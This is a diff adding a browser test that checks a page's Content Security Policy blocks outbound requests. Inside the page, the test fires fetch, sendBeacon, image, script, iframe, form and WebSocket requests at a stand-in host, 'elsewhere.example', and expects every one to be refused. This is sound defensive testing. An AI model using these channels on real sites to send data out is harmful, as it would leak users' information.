@@ -29,3 +29,43 @@ test('the policy is in the page and in the header, and allows no foreign origin'
   }
   await expect(page.getByText('Nothing leaves this tab').first()).toBeVisible();
 });
+
+test('a script on the page could not send anything elsewhere, by any of the usual ways', async ({
+  page,
+}) => {
+  const left: string[] = [];
+  await page.route(/elsewhere\.example/, (route) => {
+    left.push(route.request().url());
+    return route.abort();
+  });
+  await openSample(page);
+  const refused = await page.evaluate(async () => {
+    const directives: string[] = [];
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
+      directives.push(effectiveDirective),
+    );
+    const to = 'https://elsewhere.example/';
+    await fetch(to).catch(() => undefined);
+    navigator.sendBeacon(to, 'x');
+    for (const tag of ['img', 'script', 'iframe'] as const) {
+      const element = document.createElement(tag);
+      element.src = to;
+      document.body.append(element);
+    }
+    const form = document.createElement('form');
+    form.action = to;
+    document.body.append(form);
+    form.submit();
+    try {
+      new WebSocket('wss://elsewhere.example/');
+    } catch {
+      directives.push('connect-src');
+    }
+    await new Promise((resolve) => setTimeout(resolve, 300));
+    return directives;
+  });
+  expect(left).toEqual([]);
+  for (const directive of ['connect-src', 'img-src', 'script-src-elem', 'frame-src', 'form-action']) {
+    expect(refused).toContain(directive);
+  }
+});
